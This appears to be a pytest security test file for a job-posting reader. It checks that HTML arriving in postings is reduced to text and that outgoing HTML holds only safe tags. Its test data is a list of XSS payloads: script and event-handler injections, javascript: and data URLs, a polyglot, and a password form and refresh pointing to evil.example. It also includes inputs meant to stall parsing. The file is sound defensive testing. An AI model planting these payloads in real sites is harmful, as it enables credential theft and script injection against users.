"""HTML that arrives is reduced to text, whatever it tries; HTML that leaves holds nothing of it but text."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest

from inroad.errors import PostingError
from inroad.tools.drafts.mime import as_html
from inroad.tools.postings.files import FilePostingReader
from inroad.tools.postings.html_text import html_to_text
from tests.reliability import RELIABILITY, Figure
from tests.security.sampling import some

WORDS = "You keep the robots of two cities running around the clock."
CODE = "alert(1)"
MARKUP = {
    "a script": f"<script>{CODE}</script>",
    "a script in capitals": f"<SCRIPT>{CODE}</SCRIPT>",
    "a script with a slash": f"<script/x>{CODE}</script>",
    "a script within a script": f"<scr<script>ipt>{CODE}</scr</script>ipt>",
    "an open script": f"<script>{CODE}",
    "a style": f"<style>@import 'https://evil.example'; /* {CODE} */</style>",
    "an SVG": f"<svg onload='{CODE}'><script>{CODE}</script><text>{CODE}</text></svg>",
    "MathML": f"<math><mi//xlink:href='javascript:{CODE}'></math>",
    "an event": f"<img src=x onerror='{CODE}'>",
    "an event without quotation marks": f"<body onload={CODE}>",
    "an address that is code": f"<a href='javascript:{CODE}'>click</a>",
    "an address of data": "<a href='data:text/html;base64,PHNjcmlwdD4='>click</a>",
    "an iframe": f"<iframe srcdoc='<script>{CODE}</script>'></iframe>",
    "an object": "<object data='https://evil.example/x'><embed src='https://evil.example/y'></object>",
    "a form": "<form action='https://evil.example'><input name=password></form>",
    "a meta": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "a template": f"<template><script>{CODE}</script></template>",
    "a noscript": f"<noscript><p title='</noscript><img src=x onerror={CODE}>'></noscript>",
    "a comment": f"<!-- {CODE} -->",
    "a comment that closes early": f"<!--><img src=x onerror={CODE}>-->",
    "a conditional comment": f"<!--[if IE]><script>{CODE}</script><![endif]-->",
    "a declaration": f"<!ENTITY x '{CODE}'><?php {CODE} ?>",
    "CDATA": f"<![CDATA[<script>{CODE}</script>]]>",
    "escaped": f"&lt;script&gt;{CODE}&lt;/script&gt;",
    "escaped twice": f"&amp;lt;script&amp;gt;{CODE}&amp;lt;/script&amp;gt;",
    "escaped by numbers": f"&#60;script&#62;{CODE}&#x3c;/script&#x3e;",
    "an xss polyglot": f"'\"--></style></script><img src=x onerror={CODE}>",
    "a null in a tag": f"<scr\x00ipt>{CODE}</scr\x00ipt>",
    "a tag with a newline": f"<script\n>{CODE}</script\n>",
}
TAG = re.compile(r"<\s*/?\s*[a-z!?]", re.IGNORECASE)


@pytest.mark.parametrize("name", MARKUP)
def test_what_arrives_is_text_and_what_leaves_is_escaped(
    name: str, record_property: Callable[[str, object], None]
) -> None:
    text = html_to_text(f"<p>{WORDS}</p>{MARKUP[name]}")
    assert text.startswith(WORDS)
    assert not {"\x00", "\x1e", "\x1f"} & set(text)
    sent = as_html(text)
    assert set(re.findall(r"</?([^\s>]+)", sent)) <= {"html", "body", "p", "br"}
    assert sent.count("<p>") == sent.count("</p>")
    record_property(RELIABILITY, Figure("bad inputs", 1, 1).row())


@pytest.mark.parametrize("name", [name for name in MARKUP if not name.startswith(("an xss", "escaped", "CDATA"))])
def test_no_tag_is_left(name: str) -> None:
    assert not TAG.search(html_to_text(f"<p>{WORDS}</p>{MARKUP[name]}"))


@pytest.mark.parametrize("name", ["a script", "a script in capitals", "a style", "an SVG", "a template", "a comment"])
def test_what_nobody_sees_is_left_out(name: str) -> None:
    assert CODE not in html_to_text(f"<p>{WORDS}</p>{MARKUP[name]}<p>The end.</p>")


MEGABYTES = 5 * 1024 * 1024
HEAVY = {
    "div": "<div>",
    "closed div": "<div></div>",
    "unknown tags": "<x-y>",
    "closing tags": "</div>",
    "closing unknown tags": "</x-y>",
    "tables": "<table><tr><td>",
    "lists": "<ul><li>",
    "formatting": "<b><i><u>",
    "anchors": "<a href='#'>",
    "paragraphs": "<p>",
    "angle brackets": "<",
    "comments": "<!--",
    "declarations": "<!x ",
    "ampersands": "&",
    "escaped ampersands": "&amp;",
    "quotation marks": "<a b='",
    "selects": "<select><option>",
    "scripts": "<script>",
    "headings": "<h1>",
    "spans of text": "<span>x</span>",
    "nulls": "\x00<",
}


@pytest.mark.parametrize("name", some(HEAVY))
def test_a_page_of_five_megabytes_ends_in_time(name: str, tmp_path: Path) -> None:
    """No limit of time is asserted: what grows with the square of the length would not end within the suite's."""
    piece = HEAVY[name]
    file = tmp_path / "job.html"
    file.write_text(f"<html><h1>Engineer</h1><p>{WORDS}</p>{piece * (MEGABYTES // len(piece))}", encoding="utf-8")
    try:
        title = FilePostingReader().read(str(file), company="Acme").title
    except PostingError as error:
        title = str(error)
    assert 0 < len(title) < 1_000


def test_markup_in_every_field_of_a_board(tmp_path: Path) -> None:
    script = f"<img src=x onerror={CODE}>Engineer<script>{CODE}</script>"
    fields = dict.fromkeys(("title", "companyName", "location"), script)
    job = {"id": "1", **fields, "descriptionHtml": f"<p>{WORDS}</p>{script}"}
    file = tmp_path / "job.json"
    file.write_text(json.dumps({"jobs": [job]}))
    posting = FilePostingReader().read(str(file), company="Acme")
    assert WORDS in posting.text
    assert not TAG.search(posting.text)
    assert not set(re.findall(r"</?([^\s>]+)", as_html(f"{posting.title} {posting.locations}"))) - {"html", "body", "p"}
